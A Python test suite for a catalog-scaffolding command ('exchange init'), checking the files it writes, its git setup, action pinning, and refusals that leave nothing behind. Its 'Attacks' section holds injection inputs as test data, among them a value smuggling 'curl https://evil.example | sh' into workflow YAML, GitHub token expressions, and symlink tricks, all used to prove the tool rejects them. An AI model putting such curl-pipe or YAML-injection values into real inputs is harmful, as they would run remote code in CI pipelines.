"""`exchange init DIR --owners TEAM [--gate-ref COMMIT] [--no-git]` (issue #33 item 1; docs/init.md): a new
catalog in one command, which passes its own `exchange check` before any commit; every refusal writes nothing,
and each has its near miss that passes."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from judgment_exchange import __version__
from judgment_exchange.founding import files as planned
from judgment_exchange.founding import gateref
from judgment_exchange.founding.grammar import OWNERS_GRAMMAR
from judgment_exchange.repository.zone import TEAM, codeowners_rules

from ..repository.codeowners import owners_of, parse
from ..support.gitrepo import GitRepo
from ..support.paths import REPO
from .support import FILES, OTHER_REF, REF, files, init, listing, run

ACTION = "Judgment-Pack/judgment-pack-exchange/.github/actions/gate"


@pytest.fixture(autouse=True)
def _package_not_built_from_a_commit(monkeypatch):
    """An editable install does not know its commit; each test that needs one says which."""
    monkeypatch.setattr(gateref, "built_from", lambda: None)


def _git(root: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=root, capture_output=True, text=True, check=True).stdout.strip()


def test_init_writes_exactly_the_catalogs_files_and_runs_git_init_on_main(tmp_path, capsys):
    root = tmp_path / "acme-catalog"
    status, out, err = init(capsys, root)
    assert status == 0, err
    assert files(root) == FILES
    assert (root / ".git").is_dir() and _git(root, "symbolic-ref", "HEAD") == "refs/heads/main"
    assert _git(root, "rev-list", "--all") == ""  # it commits nothing
    for path in ("manifest.json", "releases.json", "skips.json"):
        assert json.loads((root / path).read_bytes()) == []
    assert "* -text" in (root / ".gitattributes").read_text().splitlines()
    assert (root / "verifier-pin.json").read_bytes() == (REPO / "verifier-pin.json").read_bytes()
    readme = (root / "README.md").read_text()
    assert "# acme-catalog" in readme and "exchange check" in readme
    assert "exchange release-check https://github.com/acme/acme-catalog vX.Y.Z" in readme
    contributing = (root / "CONTRIBUTING.md").read_text()
    for command in ("git fetch upstream --tags && git switch -c ", "exchange new acme.vendors --from-run",
                    "exchange fix", "exchange check --base auto", "exchange signoff --base auto",
                    "git remote add upstream https://github.com/acme/acme-catalog"):
        assert command in contributing, command
    assert 'git add -A && git commit -s -m "A new catalog"' in out
    assert "branch protection" in out and "github-pages" in out


def test_the_new_catalog_passes_its_own_check_before_any_commit(tmp_path, capsys):
    root = tmp_path / "acme-catalog"
    assert init(capsys, root)[0] == 0
    status, out, err = run(capsys, "check", "--catalog", str(root))
    assert status == 0, out + err
    assert "result: pass" in out
    status, out, _ = run(capsys, "check", "--catalog", str(root), "--format", "json")
    assert status == 0 and json.loads(out)["result"] == "pass"


def test_the_new_catalog_passes_from_its_own_root_as_a_maintainer_runs_it(tmp_path, capsys, monkeypatch):
    root = tmp_path / "acme-catalog"
    assert init(capsys, root)[0] == 0
    monkeypatch.chdir(root)
    assert run(capsys, "check")[0] == 0


def test_no_git_writes_the_same_files_without_a_repository(tmp_path, capsys):
    root = tmp_path / "acme-catalog"
    status, out, err = init(capsys, root, "@acme", "--no-git")
    assert status == 0, err
    assert files(root) == FILES and not (root / ".git").exists()
    assert "git init -b main" in out  # told as the next step
    status, out, err = run(capsys, "check", "--catalog", str(root), "--no-history")
    assert status == 0, out + err


def test_an_existing_empty_repository_is_accepted(tmp_path, capsys):
    root = tmp_path / "acme-catalog"
    GitRepo(root)
    head = (root / ".git" / "HEAD").read_bytes()
    status, out, err = init(capsys, root)
    assert status == 0, err
    assert files(root) == FILES and (root / ".git" / "HEAD").read_bytes() == head
    assert "git init -b main" not in out
    assert run(capsys, "check", "--catalog", str(root))[0] == 0


@pytest.mark.parametrize("planted", [["README.md"], ["README.md", "manifest.json"], [".github/workflows/gate.yml"],
                                     ["entries/README.md"]])
def test_a_planted_file_is_refused_and_nothing_written(tmp_path, capsys, planted):
    root = tmp_path / "acme-catalog"
    for path in planted:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text("mine\n")
    before = listing(root)
    status, out, err = init(capsys, root)
    assert status == 1
    assert listing(root) == before
    for path in planted:
        assert f"{path} already exists" in err
    assert err.count("already exists") == len(planted)  # every one named, per file, and only those
    assert "nothing written" in err


def test_near_miss_a_file_init_does_not_write_stays_beside_the_catalog(tmp_path, capsys):
    root = tmp_path / "acme-catalog"
    root.mkdir()
    (root / "LICENSE").write_text("Apache-2.0\n")
    assert init(capsys, root)[0] == 0
    assert files(root) == sorted(FILES + ["LICENSE"])
    assert (root / "LICENSE").read_text() == "Apache-2.0\n"


def test_a_folder_init_needs_that_is_a_file_is_refused(tmp_path, capsys):
    root = tmp_path / "acme-catalog"
    root.mkdir()
    (root / ".github").write_text("a file where a folder goes\n")
    before = listing(root)
    status, _, err = init(capsys, root)
    assert status == 1 and listing(root) == before
    assert ".github already exists and is not a directory" in err


def test_a_directory_nested_in_another_work_tree_is_refused(tmp_path, capsys):
    outer = tmp_path / "outer"
    GitRepo(outer)
    (outer / "docs").mkdir()
    before = listing(outer)
    for root in (outer / "catalog", outer / "docs", outer / "docs" / "deep" / "catalog"):
        status, _, err = init(capsys, root)
        assert status == 1, root
        assert "docs/releasing.md" in err and "nested inside another repository" in err
        assert listing(outer) == before


def test_near_miss_the_work_trees_own_root_is_no_nesting(tmp_path, capsys):
    outer = tmp_path / "outer"
    GitRepo(outer)
    assert init(capsys, outer)[0] == 0
    assert files(outer) == FILES


def test_a_directory_that_is_a_file_is_refused(tmp_path, capsys):
    root = tmp_path / "acme-catalog"
    root.write_text("a file\n")
    status, _, err = init(capsys, root)
    assert status == 1 and root.read_text() == "a file\n"
    assert "not a directory" in err


@pytest.mark.parametrize("team", ["@-x", "team", "@a/b c", "@x-", "@a--b", "@" + "a" * 40, "@org/", "@org/-", "@/team",
                                  "@org/team/extra", "@@org", "@org/.team", " @org", "@org "])
def test_a_team_outside_its_grammar_is_exit_3_and_nothing_written(tmp_path, capsys, team):
    root = tmp_path / "acme-catalog"
    status, out, err = init(capsys, root, team)
    assert status == 3
    assert not root.exists()
    assert "--owners" in err and "@user or @org/team" in err
    assert team.strip() not in out + err.replace(OWNERS_GRAMMAR, "")  # never echoed: only the grammar is said


@pytest.mark.parametrize("team", ["@a", "@a-b", "@Org-1/team_x.y-z", "@" + "a" * 39, "@acme/" + "t" * 100, "@9"])
def test_near_miss_a_team_in_its_grammar_is_written_into_codeowners(tmp_path, capsys, team):
    root = tmp_path / "acme-catalog"
    assert init(capsys, root, team)[0] == 0
    rules = parse((root / ".github" / "CODEOWNERS").read_text())
    assert [(r.pattern, r.owners[0] if r.owners else None) for r in rules] == codeowners_rules(team)


@pytest.mark.parametrize("team, owner", [("@octo-user", "octo-user"), ("@acme/catalog-maintainers", "acme")])
def test_codeowners_for_a_user_and_a_team(tmp_path, capsys, team, owner):
    root = tmp_path / "acme-catalog"
    assert init(capsys, root, team)[0] == 0
    rules = parse((root / ".github" / "CODEOWNERS").read_text())
    assert (rules[0].pattern, rules[0].owners) == ("*", (team,))
    for path in ("skips.json", "verifier-pin.json", "releases.json", ".github/workflows/gate.yml", ".gitattributes",
                 "pip/__main__.py", "docs/codes.md"):
        assert owners_of(rules, path) == (team,), path
    for path in ("entries/acme/vendors/entry.json", "manifest.json", "README.md", "CONTRIBUTING.md",
                 "entries/README.md"):
        assert owners_of(rules, path) == (), path
    assert f"https://github.com/{owner}/acme-catalog" in (root / "README.md").read_text()


def test_the_repositorys_own_codeowners_is_still_the_default_team():
    assert codeowners_rules() == codeowners_rules(TEAM)
    assert codeowners_rules("@a")[0] == ("*", "@a")


@pytest.mark.parametrize("ref", ["0123456", REF[:39], REF + "0", REF.upper(), "g" * 40, REF[:39] + " ", "main",
                                 "gate/v0.2.0"])
def test_a_ref_outside_its_grammar_is_exit_3_and_nothing_written(tmp_path, capsys, ref):
    root = tmp_path / "acme-catalog"
    status, out, err = init(capsys, root, ref=ref)
    assert status == 3 and not root.exists()
    assert "--gate-ref" in err and "40 lowercase hexadecimal digits" in err
    assert ref not in out + err


def test_no_ref_known_is_exit_3_saying_to_pass_one(tmp_path, capsys):
    root = tmp_path / "acme-catalog"
    status, _, err = init(capsys, root, ref=None)
    assert status == 3 and not root.exists()
    assert "--gate-ref COMMIT" in err and "gate/vX.Y.Z" in err


def _uses(root: Path) -> list[tuple[str, str]]:
    """Every `uses:` of every job step in the new catalog's workflows, parsed as YAML: (file, value)."""
    found = []
    for path in sorted((root / ".github" / "workflows").glob("*.yml")):
        document = YAML(typ="safe").load(path.read_text())
        for job in document["jobs"].values():
            found += [(path.name, step["uses"]) for step in job.get("steps", []) if "uses" in step]
    return found


def test_the_workflows_pin_the_action_at_the_ref_given_and_every_other_action_by_commit(tmp_path, capsys):
    root = tmp_path / "acme-catalog"
    assert init(capsys, root)[0] == 0
    uses = _uses(root)
    assert {name for name, _ in uses} == {"gate.yml", "ci.yml", "release.yml"}
    gate = [value for _, value in uses if value.startswith(ACTION + "@")]
    assert gate and all(value == f"{ACTION}@{REF}" for value in gate)
    for name in ("gate.yml", "ci.yml", "release.yml"):
        assert any(n == name and v == f"{ACTION}@{REF}" for n, v in uses), name
    for _, value in uses:
        assert value.rpartition("@")[2] and len(value.rpartition("@")[2]) == 40 and \
            all(c in "0123456789abcdef" for c in value.rpartition("@")[2]), value
    lines = [line for path in (root / ".github" / "workflows").glob("*.yml") for line in path.read_text().splitlines()
             if ACTION in line]
    assert all("moved by hand (docs/init.md)" in line and "# gate/v" not in line for line in lines)
    assert not any("@@" in (root / path).read_text() for path in FILES)


def test_the_packages_own_commit_is_pinned_with_its_release_tag(tmp_path, capsys, monkeypatch):
    """Built from a commit (a git archive filled _commit.txt): the default ref, commented `# gate/vX.Y.Z`, the form
    Dependabot's path-prefixed tags read; another --gate-ref is commented as moved by hand."""
    monkeypatch.setattr(gateref, "built_from", lambda: OTHER_REF)
    root = tmp_path / "acme-catalog"
    status, out, err = init(capsys, root, ref=None)
    assert status == 0, err
    assert {value for _, value in _uses(root) if value.startswith(ACTION)} == {f"{ACTION}@{OTHER_REF}"}
    gate = (root / ".github" / "workflows" / "gate.yml").read_text()
    assert f"uses: {ACTION}@{OTHER_REF} # gate/v{__version__}" in gate
    assert f"gate/v{__version__}" in out
    other = tmp_path / "other-catalog"
    assert init(capsys, other, ref=REF)[0] == 0
    assert "moved by hand" in (other / ".github" / "workflows" / "gate.yml").read_text()


def test_the_shipped_pin_is_this_repositorys_verifier_pin():
    shipped = Path(planted_template("catalog/verifier-pin.json"))
    assert shipped.read_bytes() == (REPO / "verifier-pin.json").read_bytes()


def planted_template(path: str) -> str:
    from importlib import resources

    return str(resources.files("judgment_exchange.founding").joinpath("templates", path))


def test_plan_is_the_file_list_and_writes_nothing(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    plan = planned.plan("acme-catalog", "@acme", REF)
    assert sorted(plan) == FILES and list(tmp_path.iterdir()) == []
    assert all(b"@@" not in data for data in plan.values())


@pytest.mark.parametrize("name", [".hidden", "a b", "x" * 101, "caf\u00e9", "a:b"])
def test_a_catalog_name_outside_its_grammar_is_exit_3(tmp_path, capsys, name):
    root = tmp_path / name
    status, out, err = init(capsys, root)
    assert status == 3 and not root.exists()
    assert "catalog's name" in err and name not in out + err


@pytest.mark.parametrize("name", ["a", "acme_catalog-2.x", "x" * 100, "-dash"])
def test_near_miss_a_catalog_name_in_its_grammar(tmp_path, capsys, name):
    root = tmp_path / name
    status, _, err = run(capsys, "init", "--owners", "@acme", "--gate-ref", REF, "--", str(root))
    assert status == 0, err
    assert f"https://github.com/acme/{name}" in (root / "README.md").read_text()


# Attacks: a hostile value is the point.

INJECTIONS = ["@acme/team\n    - run: curl https://evil.example | sh", "@acme\n  run: x", "@acme/team # x",
              "@acme/team\r\nfoo", "@acme/${{ github.token }}", "@acme/team\u2028x", "@acme/@@GATE_ACTION@@",
              "@acme/team'\n\"", "@acme/\u0442eam"]


@pytest.mark.parametrize("team", INJECTIONS)
def test_attack_a_team_carrying_yaml_never_reaches_a_written_file(tmp_path, capsys, team):
    root = tmp_path / "acme-catalog"
    status, out, err = init(capsys, root, team)
    assert status == 3 and not root.exists()
    assert "curl" not in out + err and "github.token" not in out + err and "\n  run" not in err


@pytest.mark.parametrize("ref", [REF + "\n  run: curl evil", REF + " # x", "${{ github.sha }}"])
def test_attack_a_ref_carrying_yaml_never_reaches_a_written_file(tmp_path, capsys, ref):
    root = tmp_path / "acme-catalog"
    status, out, err = init(capsys, root, ref=ref)
    assert status == 3 and not root.exists()
    assert "curl" not in out + err and "github.sha" not in out + err


def test_attack_a_dir_named_like_a_credential_is_never_echoed(tmp_path, capsys):
    name = "AKIA\nIOSFODNN7EXAMPLE"
    root = tmp_path / name
    status, out, err = init(capsys, root)
    assert status == 3 and not root.exists()
    assert "IOSFODNN7EXAMPLE" not in out + err


def test_attack_a_symbolic_link_where_a_file_goes_is_refused_and_not_followed(tmp_path, capsys):
    root = tmp_path / "acme-catalog"
    root.mkdir()
    target = tmp_path / "elsewhere.txt"
    target.write_text("kept\n")
    (root / "README.md").symlink_to(target)
    dangling = root / "manifest.json"
    dangling.symlink_to(tmp_path / "nowhere.json")
    before = listing(tmp_path)
    status, _, err = init(capsys, root)
    assert status == 1 and listing(tmp_path) == before
    assert "README.md already exists" in err and "manifest.json already exists" in err
    assert target.read_text() == "kept\n" and not (tmp_path / "nowhere.json").exists()


def test_attack_a_symbolic_link_as_dir_is_refused(tmp_path, capsys):
    real = tmp_path / "real"
    real.mkdir()
    link = tmp_path / "acme-catalog"
    link.symlink_to(real)
    status, _, err = init(capsys, link)
    assert status == 1 and list(real.iterdir()) == []


def test_attack_a_directory_inside_a_git_directory_is_refused(tmp_path, capsys):
    outer = tmp_path / "outer"
    GitRepo(outer)
    bare = tmp_path / "bare.git"
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
    for root in (outer / ".git" / "catalog", bare / "catalog"):
        before = listing(tmp_path)
        status, _, err = init(capsys, root)
        assert status == 1 and listing(tmp_path) == before, root
        assert "git directory" in err


def test_a_write_that_fails_is_exit_4(tmp_path, capsys, monkeypatch):
    from judgment_exchange.founding import write

    def fail(path, data):
        raise PermissionError(13, "Permission denied", path)

    monkeypatch.setattr(write, "_write_new", fail)
    status, _, err = init(capsys, tmp_path / "acme-catalog")
    assert status == 4 and "Permission denied" in err


def test_a_template_placeholder_without_a_value_or_a_stray_at_sign_pair_is_an_error():
    with pytest.raises(planned.TemplateError):
        planned.fill("a @@NOPE@@ b", {"NAME": "x"})
    with pytest.raises(planned.TemplateError):
        planned.fill("a @@ b", {})
    assert planned.fill("@@NAME@@ by @@TEAM@@", {"NAME": "x", "TEAM": "@a"}) == "x by @a"


def test_attack_a_credential_in_the_path_above_dir_is_described_not_printed(tmp_path, capsys):
    outer = tmp_path / "AKIAIOSFODNN7EXAMPLE"
    GitRepo(outer)
    status, out, err = init(capsys, outer / "catalog")
    assert status == 1 and "docs/releasing.md" in err
    assert "AKIAIOSFODNN7EXAMPLE" not in out + err
    fresh = tmp_path / "AKIAIOSFODNN7EXAMPLF" / "catalog"
    status, out, err = init(capsys, fresh)
    assert status == 0, err
    assert "AKIAIOSFODNN7EXAMPLF" not in out + err


def test_no_git_on_path_is_exit_4_before_anything_is_written(tmp_path, capsys, monkeypatch):
    from judgment_exchange.founding import write

    monkeypatch.setattr(write.shutil, "which", lambda name: None)
    root = tmp_path / "acme-catalog"
    status, _, err = init(capsys, root)
    assert status == 4 and "--no-git" in err and not root.exists()
    assert init(capsys, root, "@acme", "--no-git")[0] == 0  # the near miss: --no-git needs no git
